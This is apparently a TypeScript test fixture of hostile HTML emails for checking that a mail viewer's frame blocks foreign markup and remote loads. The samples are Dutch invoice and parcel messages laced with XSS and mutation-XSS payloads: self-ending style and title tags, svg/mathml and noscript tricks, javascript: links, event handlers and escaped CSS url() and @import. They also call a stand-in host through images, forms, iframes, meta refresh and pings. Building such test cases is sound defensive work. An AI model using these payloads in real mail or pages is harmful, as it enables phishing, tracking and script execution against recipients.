const SPY = 'https://spy.example.org'
const BODY = '<h1>Uw factuur</h1><p>Uw factuur staat klaar in uw account. Betaal voor 1 mei.</p>'
const INJECTED = `<meta http-equiv=refresh content="0;url=${SPY}/m"><base href="${SPY}/"><img src="${SPY}/i"><form action="${SPY}/f"><input name=a><button>Betaal</button></form><iframe src="${SPY}/g"></iframe><script>top.hit=1</script>`

/** Mails that try to get mark-up of their own, or a load from elsewhere, through the frame. */
export const HOSTILE: Readonly<Record<string, string>> = {
  'bare mark-up': `${BODY}${INJECTED}<object data="${SPY}/o"></object><embed src="${SPY}/e"><link rel=stylesheet href="${SPY}/l"><video poster="${SPY}/v" src="${SPY}/w"></video>`,
  'a style sheet that ends itself': `<style>p{color:red}<<//style>${INJECTED}</style>${BODY}`,
  'a style sheet that an import puts together': `<style><@import "a";/style>${INJECTED}</style>${BODY}`,
  'a style sheet that never ends': `${BODY}<style>p{color:red}<//style>${INJECTED}`,
  'a head in the words of an attribute': `<html title='<head>${INJECTED}'><body title='<head>${INJECTED}'>${BODY}</body></html>`,
  'addresses in style, written in another way': `<style>@im\\port "${SPY}/c";p{background:u\\72l(${SPY}/u);background-image:image-set("${SPY}/s" 1x);list-style:-webkit-image-set(url(${SPY}/k) 1x)}p[title^=a]{background:url(${SPY}/x)}</style>${BODY}<p title=a style="background:u\\72l(${SPY}/t);cursor:url(${SPY}/y),auto">Uw pakket komt morgen.</p>`,
  'svg and mathml': `${BODY}<svg onload="top.hit=1"><image href="${SPY}/a"/><use href="${SPY}/b#a"/><style>@import "${SPY}/c"</style><a xlink:href="javascript:top.hit=1"><text>x</text></a></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.hit=1&gt;">`,
  'links and events': `${BODY}<a href="javascript:top.hit=1" onclick="top.hit=1" target=_top ping="${SPY}/p">Betaal</a><img src=x onerror="top.hit=1"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${SPY}/d'/></svg>"><a href="&#106;avascript:top.hit=1">Bekijk</a><table background="${SPY}/b"><tr><td>Uw pakket komt morgen.</td></tr></table>`,
  'onload, a picture and a link': `<head><title>Uw factuur</title><style>p{background:url(${SPY}/a)}</style></head><body onload="top.hit=1">${BODY}<img src="${SPY}/p.gif"><script>top.hit=1</script><a href="${SPY}/">Betaal</a></body>`,
  'a title that ends itself': `<title>Uw factuur</title></title>${INJECTED}${BODY}`,
  'words that look like our marks': `<wrm-mark m='service"><script>top.hit=1</script>'>Uw factuur staat klaar.</wrm-mark>${BODY}<noscript><p title="</noscript><img src=x onerror=top.hit=1>">a</p></noscript><template><script>top.hit=1</script></template>`,
}
